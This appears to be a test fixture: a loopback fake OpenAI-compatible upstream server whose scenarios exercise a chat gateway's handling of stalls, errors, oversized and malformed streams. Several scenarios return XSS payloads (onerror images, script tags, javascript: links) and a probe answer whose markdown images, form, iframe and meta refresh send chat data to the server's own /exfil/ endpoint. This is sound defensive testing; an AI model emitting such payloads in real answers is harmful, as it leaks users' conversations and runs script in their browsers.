"""A real OpenAI-compatible upstream that the tests start on loopback.

The scenario is the first path segment of the channel's base URL, so channels of one model can
behave differently: ``http://127.0.0.1:PORT/<scenario>/v1``. Scenarios (``-N`` parameters optional):

- ``ok``: a plain answer; usage only when ``stream_options.include_usage`` is asked for
- ``nousage``: a plain answer and never any usage
- ``reasoning_content`` / ``reasoning``: thinking in that delta field, then the answer
- ``think``: ``<think>…</think>`` inside the content, the tags split across chunks
- ``slow-MS-N[-P]``: N chunks (``w0 w1 …``), MS milliseconds apart; a blank line after every P words
- ``open-MS[-P]``: the same words without an end of their own: the answer goes on until the test calls
  :meth:`UpstreamServer.end_open_streams` (at most 100,000 words), so a test can wait for a state of
  the page that takes the answer some time to reach, however slow the machine
- ``stall``: the first chunk, then nothing (until the client goes away)
- ``hang``: no response at all (for first-byte timeouts)
- ``midfail``: two chunks, then the connection is cut
- ``malformed``: garbage lines between valid events
- ``error500`` / ``error429`` / ``error401``: that status with a body the gateway must never forward
- ``switch``: ``error500`` while :attr:`UpstreamServer.switch_failing` is true, else ``ok`` (a channel
  that fails, then recovers)
- ``plainonly``: a plain JSON answer even to ``stream: true`` (an upstream that cannot stream)
- ``cjk``: a Chinese answer without usage (for the token estimate)
- ``delay-MS``: the plain answer after MS milliseconds (benchmarks)
- ``html`` / ``code``: an answer with HTML and script tags / with a fenced code block
- ``rich``: a heading, inline and display math, a code block with a very long line, a wide table and a
  ``javascript:`` link (:data:`RICH_ANSWER`, in pieces of a few characters)
- ``huge-MB``: an answer of MB MiB: without a stream one JSON object sent chunked (no length), with a
  stream one ``data:`` line of that size as the first event
- ``hugelen-MB``: the same, the JSON answer with a ``Content-Length``
- ``hugelate-MB``: a stream whose first event is ordinary, then one line of MB MiB
- ``drip-MS``: the head at once, then one byte every MS milliseconds, never finishing (a JSON answer
  padded with spaces; a stream's second line): until the client leaves
- ``nostreamoptions``: a 400 naming ``stream_options`` whenever the request carries it (older vLLM)
- ``jsonstream``: a plain ``chat.completion`` JSON answer even to ``stream: true``
- ``thinkopen[-N[-R]]``: reasoning closed by ``</think>`` without an opening tag (vLLM-served R1
  distills); with N, the stream sends :func:`thinkopen_text` (its reasoning R times) in pieces of N
  characters, so the tag is cut across chunks (N = 3: ``…</`` + ``thi`` + ``nk>``)
- ``silent``: no response at all; the client's leaving is recorded (as a cancelled end)
- ``probe-N``: thinking, then an answer carrying the probe's payloads (:func:`probe_answer`: images,
  a form, styles, an iframe, event attributes, a ``javascript:`` link), in pieces of N characters (7) so
  that renders see tags half written; each payload points at this server's ``/exfil/…``, which records
  every request it gets in :attr:`UpstreamServer.exfil_hits`

Everything received is kept in :attr:`UpstreamServer.received`; stream ends (normal or cancelled) in
:attr:`UpstreamServer.stream_ends`, as are the ends of the ``huge*``, ``drip`` and ``silent`` answers,
streamed or not.
"""

from __future__ import annotations

import asyncio
import json
import logging
import threading
import time
from collections.abc import AsyncIterator, Iterable, Iterator
from dataclasses import dataclass, field
from typing import Any

import uvicorn
from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import JSONResponse, Response, StreamingResponse
from starlette.routing import Route

from tests.helpers import HANG_SECONDS, free_port, hung

ANSWER_WORDS = ["Hello", " from", " the", " upstream", " server", "."]
THINKING_WORDS = ["Let", " me", " think", " about", " it", "."]
CJK_ANSWER = ["你好", "，", "我是", "上游", "服务器", "。"]
HTML_ANSWER = ["Safe? ", '<img src=x onerror="window.__xss=1">', "<script>window.__xss=2</script>", " done."]
CODE_ANSWER = [
    "Here is code:\n\n",
    "```python\n",
    "def add(a, b):\n",
    "    return a + b\n",
    "```\n",
    "\nDone.",
]
RICH_TEXT = (
    "# A heading\n\n"
    "Energy is $E=mc^2$ and the integral is\n\n"
    "$$\\int_0^1 x^2\\,dx = \\frac{1}{3} + \\sum_{n=1}^{\\infty} \\frac{1}{n^2} - \\frac{\\pi^2}{6}"
    " + \\sqrt{a^2+b^2+c^2+d^2+e^2+f^2+g^2+h^2}$$\n\n"
    "```python\n"
    "print('" + "a very long line of code " * 12 + "')\n"
    "```\n\n"
    "| " + " | ".join(f"column {i}" for i in range(12)) + " |\n"
    "|" + "---|" * 12 + "\n"
    "| " + " | ".join(f"value-{i}-wide" for i in range(12)) + " |\n\n"
    "[click](javascript:window.__xss=5) and $\\href{javascript:window.__xss=6}{x}$ end."
)
RICH_ANSWER = [RICH_TEXT[i : i + 9] for i in range(0, len(RICH_TEXT), 9)]
UPSTREAM_ERROR_BODY = "upstream-internal-detail: database password is hunter2"
OPEN_STREAM_MAX_WORDS = 100_000


def thinkopen_text(repeat: int = 1) -> str:
    """The ``thinkopen`` answer: the thinking words ``repeat`` times, ``</think>``, the answer."""
    return "".join(THINKING_WORDS) * repeat + "</think>\n\n" + "".join(ANSWER_WORDS)


PROBE_END = "Probe end."


def probe_thinking(base: str) -> str:
    return f'Thinking with <img src="{base}/exfil/thinking-image"> in it.'


def probe_answer(base: str) -> str:
    """The probe's payloads (issue 15), each of which loads, submits, hides or runs something when the
    answer is rendered as it is; ``base`` is this server, whose ``/exfil/…`` records what reaches it."""
    return (
        "Probe start.\n\n"
        f"![ ]({base}/exfil/markdown-image?d=the+chat+so+far)\n\n"
        f'<img src="{base}/exfil/html-image" onerror="window.__probe = \'onerror\'">\n\n'
        f'<form action="{base}/exfil/form" method="post"><input name="q" value="secret">'
        '<button type="submit">Send it</button></form>\n\n'
        "<style>body, #app { display: none !important; }</style>\n\n"
        '<div class="fixed inset-0 z-50 bg-white" style="position:fixed;inset:0;z-index:9999">cover</div>\n\n'
        f'<iframe src="{base}/exfil/iframe"></iframe>\n\n'
        f'<link rel="stylesheet" href="{base}/exfil/stylesheet">'
        f'<meta http-equiv="refresh" content="0;url={base}/exfil/meta"><base href="{base}/exfil/base/">\n\n'
        f"[javascript link](javascript:window.__probe='javascript') [web link]({base}/exfil/link)\n\n"
        f"{PROBE_END}"
    )


class MidStreamCut(Exception):
    """Raised to cut a stream; uvicorn then drops the connection mid-body."""


def _hide_intended_cuts(record: logging.LogRecord) -> bool:
    """uvicorn logs the cut as an ERROR; it is intended here and must not fail tests watching for errors."""
    return not (record.exc_info and isinstance(record.exc_info[1], MidStreamCut))


@dataclass
class Received:
    scenario: str
    path: str
    headers: dict[str, str]
    body: dict[str, Any]
    at: float = field(default_factory=time.monotonic)
    peer: tuple[str, int] | None = None  # the gateway's end of the connection that carried the request
    query: str = ""  # the query string the call came with (a base URL's api-version)


@dataclass
class StreamEnd:
    scenario: str
    cancelled: bool
    at: float = field(default_factory=time.monotonic)
    model: str = ""


def _chunk(model: str, delta: dict[str, Any], finish: str | None = None) -> bytes:
    body = {
        "id": "chatcmpl-test",
        "object": "chat.completion.chunk",
        "created": int(time.time()),
        "model": model,
        "choices": [{"index": 0, "delta": delta, "finish_reason": finish}],
    }
    return f"data: {json.dumps(body, ensure_ascii=False)}\n\n".encode()


def _usage_chunk(model: str, prompt: int, completion: int) -> bytes:
    body = {
        "id": "chatcmpl-test",
        "object": "chat.completion.chunk",
        "created": int(time.time()),
        "model": model,
        "choices": [],
        "usage": {
            "prompt_tokens": prompt,
            "completion_tokens": completion,
            "total_tokens": prompt + completion,
        },
    }
    return f"data: {json.dumps(body)}\n\n".encode()


_HUGE_TAIL = b'"}, "finish_reason": "stop"}]}'
_HUGE_STREAM_TAIL = b'"}, "finish_reason": null}]}\n\n'


def _huge_json_head(model: str, *, stream: bool = False) -> bytes:
    """The start of an answer whose content follows (``a`` repeated), closed by a ``_HUGE*_TAIL``."""
    kind, field = ("chat.completion.chunk", "delta") if stream else ("chat.completion", "message")
    head = {"id": "chatcmpl-test", "object": kind, "created": 0, "model": model}
    return json.dumps(head).encode()[:-1] + f', "choices": [{{"index": 0, "{field}": {{"content": "'.encode()


def _numbered_words(count: int, paragraph: int) -> Iterator[str]:
    """``w0 w1 …``, with a blank line after every ``paragraph`` words (none for 0)."""
    for i in range(count):
        yield f"w{i}\n\n" if paragraph and (i + 1) % paragraph == 0 else f"w{i} "


def _until(ended: threading.Event, words: Iterator[str]) -> Iterator[str]:
    for word in words:
        if ended.is_set():
            return
        yield word


def _split_scenario(scenario: str) -> tuple[str, list[int]]:
    name, *params = scenario.split("-")
    if name == "error500" or not params:
        return name, []
    return name, [int(p) for p in params]


class UpstreamServer:
    def __init__(self) -> None:
        self.switch_failing = True  # the ``switch`` scenario fails while this holds
        self.port = free_port()
        self.received: list[Received] = []
        self.stream_ends: list[StreamEnd] = []
        self.exfil_hits: list[str] = []  # ``/exfil/…`` requests: what a page fetched of a probe's payloads
        self._server: uvicorn.Server | None = None
        self._open_streams_end = threading.Event()  # set to end the ``open`` streams running now
        self._thread: threading.Thread | None = None
        self.app = Starlette(
            routes=[
                Route("/{scenario}/v1/chat/completions", self._completions, methods=["POST"]),
                # a base URL without a path (``http://127.0.0.1:PORT``): the scenario is ``root``
                Route("/v1/chat/completions", self._completions, methods=["POST"]),
                Route("/{scenario}/v1/models", self._models, methods=["GET"]),
                Route("/exfil/{what:path}", self._exfil, methods=["GET", "POST"]),
            ]
        )

    def base_url(self, scenario: str = "ok") -> str:
        return f"http://127.0.0.1:{self.port}/{scenario}/v1"

    def https_base_url(self, scenario: str = "ok", host: str = "localhost") -> str:
        return f"https://{host}:{self.port}/{scenario}/v1"

    def requests_for(self, scenario: str) -> list[Received]:
        return [item for item in self.received if item.scenario == scenario]

    def ends_of(self, model: str) -> list[StreamEnd]:
        return [end for end in self.stream_ends if end.model == model]

    def open_peers(self) -> set[tuple[str, int]]:
        """The client ends of the connections open to this server now (uvicorn's own record of them,
        so a connection is gone from it once its socket has been closed)."""
        if self._server is None:
            return set()
        return {
            conn.client for conn in list(self._server.server_state.connections) if conn.client is not None
        }

    def end_open_streams(self) -> None:
        """End every ``open`` stream running now, as a complete answer; later ones run open again."""
        ended, self._open_streams_end = self._open_streams_end, threading.Event()
        ended.set()

    def clear(self) -> None:
        self.received.clear()
        self.stream_ends.clear()
        self.exfil_hits.clear()

    # ---- lifecycle -------------------------------------------------------------------------------
    def start(self, *, certfile: str | None = None, keyfile: str | None = None) -> UpstreamServer:
        """With ``certfile`` / ``keyfile`` it serves HTTPS (``https_base_url``)."""
        config = uvicorn.Config(
            self.app,
            host="127.0.0.1",
            port=self.port,
            log_level="warning",
            lifespan="off",
            log_config=None,
            ssl_certfile=certfile,
            ssl_keyfile=keyfile,
        )
        logging.getLogger("uvicorn.error").addFilter(_hide_intended_cuts)
        self._server = uvicorn.Server(config)
        self._thread = threading.Thread(target=self._server.run, daemon=True)
        self._thread.start()
        deadline = time.monotonic() + HANG_SECONDS  # started once listening, however long that takes
        while not self._server.started:
            if not self._thread.is_alive():
                raise RuntimeError("the upstream server's thread ended before it listened (see its log)")
            if time.monotonic() > deadline:
                raise RuntimeError(hung("the upstream server did not start"))
            time.sleep(0.02)
        return self

    def stop(self) -> None:
        if self._server is not None:
            self._server.should_exit = True
            self._server.force_exit = True
        if self._thread is not None:
            self._thread.join(timeout=5)

    # ---- endpoints -------------------------------------------------------------------------------
    async def _exfil(self, request: Request) -> Response:
        self.exfil_hits.append(f"{request.method} {request.url.path}?{request.url.query}")
        return Response(b"GIF89a", media_type="image/gif")

    async def _models(self, request: Request) -> Response:
        return JSONResponse({"object": "list", "data": [{"id": "test-model", "object": "model"}]})

    async def _completions(self, request: Request) -> Response:
        scenario = request.path_params.get("scenario", "root")
        try:
            body = await request.json()
        except ValueError:
            body = {}
        peer = (request.client.host, request.client.port) if request.client else None
        self.received.append(
            Received(
                scenario, request.url.path, dict(request.headers), body, peer=peer, query=request.url.query
            )
        )
        name, params = _split_scenario(scenario)
        if name == "switch":
            name = "error500" if self.switch_failing else "ok"
        if name.startswith("error"):
            status = int(name.removeprefix("error") or 500)
            return Response(UPSTREAM_ERROR_BODY, status_code=status, media_type="text/plain")
        if name == "hang":
            await asyncio.sleep(3600)
        if name == "delay":  # a non-streamed answer after MS milliseconds
            await asyncio.sleep((params[0] if params else 50) / 1000)
        model = str(body.get("model", "test-model"))
        stream = bool(body.get("stream"))
        if name == "nostreamoptions" and "stream_options" in body:
            detail = {"error": {"message": "extra field not permitted: stream_options", "code": 400}}
            return JSONResponse(detail, status_code=400)
        if name == "jsonstream":
            return JSONResponse(self._full_answer(name, params, model, body))
        if name == "silent":
            while (await request.receive())["type"] != "http.disconnect":
                continue
            self.stream_ends.append(StreamEnd(name, True, model=model))
            return Response(status_code=499)
        if name in ("huge", "hugelen", "hugelate", "drip"):
            return self._resource_test_answer(name, params[0] if params else 1, model, stream=stream)
        if not body.get("stream") or name == "plainonly":
            return JSONResponse(self._full_answer(name, params, model, body))
        include_usage = bool((body.get("stream_options") or {}).get("include_usage"))
        base = str(request.base_url).rstrip("/")
        return StreamingResponse(
            self._stream(name, params, model, include_usage, base), media_type="text/event-stream"
        )

    def _resource_test_answer(self, name: str, param: int, model: str, *, stream: bool) -> Response:
        """The oversized and the dripping answers (``huge*``, ``drip``), streamed or not."""
        if name == "drip":
            pieces = self._drip(param, model, stream=stream)
        else:
            pieces = self._huge(name, param * 1024 * 1024, model, stream=stream)
        recorded = self._recording_end(name, model, pieces)
        if stream:
            return StreamingResponse(recorded, media_type="text/event-stream")
        headers = {}
        if name == "hugelen":
            size = len(_huge_json_head(model)) + param * 1024 * 1024 + len(_HUGE_TAIL)
            headers["content-length"] = str(size)
        return StreamingResponse(recorded, media_type="application/json", headers=headers)

    async def _recording_end(
        self, name: str, model: str, pieces: AsyncIterator[bytes]
    ) -> AsyncIterator[bytes]:
        cancelled = False
        try:
            async for piece in pieces:
                yield piece
        except (asyncio.CancelledError, GeneratorExit):
            cancelled = True
            raise
        finally:
            self.stream_ends.append(StreamEnd(name, cancelled, model=model))

    @staticmethod
    async def _huge(name: str, size: int, model: str, *, stream: bool) -> AsyncIterator[bytes]:
        block = b"a" * (1024 * 1024)
        if stream and name == "hugelate":
            yield _chunk(model, {"role": "assistant", "content": "first"})
        yield b"data: " + _huge_json_head(model, stream=True) if stream else _huge_json_head(model)
        for _ in range(size // len(block)):
            yield block
            await asyncio.sleep(0)  # once the client has gone, sends return at once: let the cancel in
        yield block[: size % len(block)] + (_HUGE_STREAM_TAIL if stream else _HUGE_TAIL)
        if stream:
            yield b"data: [DONE]\n\n"

    @staticmethod
    async def _drip(every_ms: int, model: str, *, stream: bool) -> AsyncIterator[bytes]:
        if stream:
            yield _chunk(model, {"role": "assistant", "content": "first"})
            yield b"data: {"
        else:
            yield b'{"id": "chatcmpl-test", '
        for _ in range(int(HANG_SECONDS * 1000 / max(every_ms, 1)) + 1):
            await asyncio.sleep(every_ms / 1000)
            yield b" "

    def _full_answer(self, name: str, params: list[int], model: str, body: dict[str, Any]) -> dict[str, Any]:
        message: dict[str, Any] = {"role": "assistant", "content": "".join(ANSWER_WORDS)}
        if name == "reasoning_content":
            message["reasoning_content"] = "".join(THINKING_WORDS)
        elif name == "reasoning":
            message["reasoning"] = "".join(THINKING_WORDS)
        elif name == "think":
            message["content"] = "<think>" + "".join(THINKING_WORDS) + "</think>" + "".join(ANSWER_WORDS)
        elif name == "cjk":
            message["content"] = "".join(CJK_ANSWER)
        elif name == "thinkopen":
            message["content"] = thinkopen_text(params[1] if len(params) > 1 else 1)
        answer: dict[str, Any] = {
            "id": "chatcmpl-test",
            "object": "chat.completion",
            "created": int(time.time()),
            "model": model,
            "choices": [{"index": 0, "message": message, "finish_reason": "stop"}],
        }
        if name not in ("nousage", "cjk"):
            answer["usage"] = {"prompt_tokens": 11, "completion_tokens": 6, "total_tokens": 17}
        return answer

    async def _stream(self, name: str, params: list[int], model: str, include_usage: bool, base: str = ""):
        cancelled = False
        try:
            if name == "latefirst":  # the first event after MS milliseconds, then a stall
                await asyncio.sleep((params[0] if params else 500) / 1000)
                yield _chunk(model, {"content": "first"})
                await asyncio.sleep(3600)
            yield _chunk(model, {"role": "assistant", "content": ""})
            if name == "reasoning_content":
                for word in THINKING_WORDS:
                    yield _chunk(model, {"reasoning_content": word})
            elif name == "reasoning":
                for word in THINKING_WORDS:
                    yield _chunk(model, {"reasoning": word})
            elif name == "think":
                for piece in ["<th", "ink>Let me", " think about", " it.</thi", "nk>Hel", "lo there."]:
                    yield _chunk(model, {"content": piece})
                yield _chunk(model, {}, finish="stop")
                if include_usage:
                    yield _usage_chunk(model, 11, 9)
                yield b"data: [DONE]\n\n"
                return
            if name == "thinkopen":
                pieces = ["Let me think.</think>", "\n\nHel", "lo there."]
                if params:  # the reasoning repeated R times, all of it in pieces of N characters
                    size, text = params[0], thinkopen_text(params[1] if len(params) > 1 else 1)
                    pieces = [text[i : i + size] for i in range(0, len(text), size)]
                for piece in pieces:
                    yield _chunk(model, {"content": piece})
                yield _chunk(model, {}, finish="stop")
                yield b"data: [DONE]\n\n"
                return
            if name == "probe":
                for word in probe_thinking(base).split(" "):
                    yield _chunk(model, {"reasoning_content": word + " "})
                answer, size = probe_answer(base), (params[0] if params else 7)
                for start in range(0, len(answer), size):
                    yield _chunk(model, {"content": answer[start : start + size]})
                yield _chunk(model, {}, finish="stop")
                yield b"data: [DONE]\n\n"
                return
            if name == "stall":
                yield _chunk(model, {"content": "first"})
                await asyncio.sleep(3600)
            if name == "midfail":
                yield _chunk(model, {"content": "Hello"})
                yield _chunk(model, {"content": " there"})
                raise MidStreamCut("connection cut on purpose")
            words: Iterable[str] = {
                "cjk": CJK_ANSWER,
                "html": HTML_ANSWER,
                "code": CODE_ANSWER,
                "rich": RICH_ANSWER,
            }.get(name, ANSWER_WORDS)
            delay_ms = 0
            if name == "slow":
                delay_ms, count, paragraph = [*params, *(20, 16, 0)[len(params) :]][:3]
                words = _numbered_words(count, paragraph)
            elif name == "open":
                delay_ms, paragraph = [*params, *(20, 0)[len(params) :]][:2]
                words = _until(self._open_streams_end, _numbered_words(OPEN_STREAM_MAX_WORDS, paragraph))
            sent = 0
            for word in words:
                if name == "malformed":
                    yield b"data: {not json\n\n: a comment line\n\nevent: ping\ndata: \n\n"
                if delay_ms:
                    await asyncio.sleep(delay_ms / 1000)
                yield _chunk(model, {"content": word})
                sent += 1
            yield _chunk(model, {}, finish="stop")
            if include_usage and name not in ("nousage", "cjk"):
                yield _usage_chunk(model, 11, sent)
            yield b"data: [DONE]\n\n"
        except (asyncio.CancelledError, GeneratorExit):
            cancelled = True
            raise
        finally:
            self.stream_ends.append(StreamEnd(name, cancelled, model=model))


def main() -> None:
    """``python -m tests.upstream_server --port N``: run the server in the foreground (benchmarks)."""
    import argparse

    parser = argparse.ArgumentParser()
    parser.add_argument("--port", type=int, required=True)
    args = parser.parse_args()
    server = UpstreamServer()
    server.port = args.port
    uvicorn.run(server.app, host="127.0.0.1", port=args.port, log_level="warning", access_log=False)


if __name__ == "__main__":
    main()
